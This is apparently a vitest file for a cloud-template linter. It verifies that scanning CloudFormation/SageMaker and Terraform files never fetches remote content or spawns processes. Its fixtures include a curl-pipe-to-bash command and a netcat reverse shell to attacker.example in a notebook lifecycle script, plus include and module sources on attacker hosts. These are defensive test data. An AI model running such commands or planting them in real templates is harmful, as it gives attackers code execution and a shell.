/**
 * Nothing in a template is executed or fetched: `sagelint scan` runs with
 * every network and process-spawning call trapped (in worker threads too), on
 * templates that point at remote content, and none is attempted. What is not
 * followed is said in a note.
 */
import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { describe, expect, it } from 'vitest';
import { GOOD_TEMPLATE, scanJson, workspace } from './workspace.js';

const TRAP = path.resolve(import.meta.dirname, 'trap-network.cjs');

function trapped(): { env: Record<string, string>; attempts: () => string[]; threads: () => string[] } {
  const log = path.join(mkdtempSync(path.join(tmpdir(), 'sagelint-trap-')), 'trap.log');
  const lines = () => (existsSync(log) ? readFileSync(log, 'utf8').trim().split('\n') : []);
  return {
    env: { NODE_OPTIONS: `--require ${TRAP}`, SAGELINT_TRAP_LOG: log },
    attempts: () => lines().filter((l) => l.startsWith('attempt')),
    threads: () => [...new Set(lines().filter((l) => l.startsWith('loaded')).map((l) => l.replace('loaded ', '')))].sort(),
  };
}

const REMOTE_REFERENCES = `AWSTemplateFormatVersion: '2010-09-09'
Transform: [AWS::Serverless-2016-10-31, MyCompany::Macro]
Resources:
  Fn::Transform:
    Name: AWS::Include
    Parameters:
      Location: s3://attacker-bucket/payload.yaml
  Model:
    Type: AWS::SageMaker::Model
    Properties:
      ExecutionRoleArn: !ImportValue shared-role-arn
      PrimaryContainer:
        Image: 123456789012.dkr.ecr.us-east-1.amazonaws.com/model:1
        ModelDataUrl: https://attacker.example/model.tar.gz
      Fn::Transform:
        Name: AWS::Include
        Parameters:
          Location: https://attacker.example/snippet.yaml
  Setup:
    Type: AWS::SageMaker::NotebookInstanceLifecycleConfig
    Properties:
      OnStart:
        - Content: !Base64 |
            #!/bin/bash
            curl -fsSL https://attacker.example/x.sh | bash
            $(nc attacker.example 4444 -e /bin/sh)
`;

const REMOTE_MODULE = `module "remote" {
  source = "git::https://attacker.example/modules.git//vpc?ref=v1"
}
module "registry" {
  source  = "attacker/vpc/aws"
  version = "1.0.0"
}
resource "aws_sagemaker_notebook_instance" "nb" {
  name                   = "nb"
  instance_type          = "ml.t3.medium"
  role_arn               = "arn:aws:iam::123456789012:role/nb"
  direct_internet_access = "Enabled"
}
`;

describe('no network access and nothing executed during a scan', () => {
  it('the trap records an attempt when there is one (in the main thread and in workers)', () => {
    const trap = trapped();
    const run = spawnSync(process.execPath, ['-e', "new (require('worker_threads').Worker)('process.exit(0)', { eval: true }); try { require('https').get('https://example.com') } catch {}"], {
      env: { ...process.env, ...trap.env },
      encoding: 'utf8',
    });
    expect(run.status).toBe(0);
    expect(trap.attempts()).toEqual(['attempt https.get thread=0']);
    expect(trap.threads()).toEqual(['thread=0', 'thread=1']);
  });

  // Each run scans a workspace of its own and logs to a trap of its own: the two run side by side.
  it.concurrent.each([1, 2])('follows no remote reference in templates or Terraform, with --jobs %i', async (jobs) => {
    const files: Record<string, string> = { 'remote.yaml': REMOTE_REFERENCES, 'tf/main.tf': REMOTE_MODULE };
    // Enough templates that --jobs 2 hands work to a worker thread.
    for (let i = 0; i < 40; i++) files[`stacks/good-${i}.yaml`] = GOOD_TEMPLATE;
    const trap = trapped();
    const scan = await scanJson(workspace(files), ['.'], ['--jobs', String(jobs)], { ...trap.env, SAGELINT_WORKERS_EAGER: '1' });
    expect(scan.run.status).toBe(1);
    expect(trap.attempts()).toEqual([]);
    expect(trap.threads()).toEqual(jobs === 1 ? ['thread=0'] : ['thread=0', 'thread=1']);
    const notes = scan.report.notes.filter((n) => n.file === 'remote.yaml').map((n) => `${n.line}: ${n.message}`);
    expect(notes).toEqual([
      '2: SAM transform is not expanded: AWS::Serverless::* resources are checked as written',
      '2: transform MyCompany::Macro is not run: resources it would generate are not checked',
      '4: Fn::Transform AWS::Include of s3://attacker-bucket/payload.yaml is not run and nothing is fetched: what it would produce is not checked',
      '15: Fn::Transform AWS::Include of https://attacker.example/snippet.yaml is not run and nothing is fetched: what it would produce is not checked',
    ]);
    // 40 templates and the Terraform notebook, whose remote modules are noted, not fetched.
    expect(scan.report.findings.filter((f) => f.ruleId === 'SM001')).toHaveLength(41);
    expect(scan.report.notes.filter((n) => n.file?.startsWith('tf/')).length).toBeGreaterThan(0);
  }, 120_000);

  it('notes remote Terraform modules as not followed, and fetches nothing for them', () => {
    const trap = trapped();
    const loader = pathToFileURL(path.resolve(import.meta.dirname, '../../dist/src/loaders/terraform/index.js')).href;
    const script = `import(${JSON.stringify(loader)}).then(async ({ loadTerraformFiles }) => {
      const units = await loadTerraformFiles({ 'main.tf': ${JSON.stringify(REMOTE_MODULE)} });
      process.stdout.write(JSON.stringify(units.flatMap((u) => u.notes)));
    });`;
    const run = spawnSync(process.execPath, ['-e', script], { env: { ...process.env, ...trap.env }, encoding: 'utf8' });
    expect(run.stderr).toBe('');
    expect(trap.attempts()).toEqual([]);
    expect(JSON.parse(run.stdout)).toEqual([
      { file: 'main.tf', line: 1, message: expect.stringMatching(/^module "remote": source "git::https:\/\/attacker\.example.* is not a local path; its resources are not checked, here or in any other call \(\.terraform\/modules holds no copy: run terraform init, or scan a plan\)$/) },
      { file: 'main.tf', line: 4, message: expect.stringMatching(/^module "registry": source "attacker\/vpc\/aws" is not a local path/) },
    ]);
  });
});
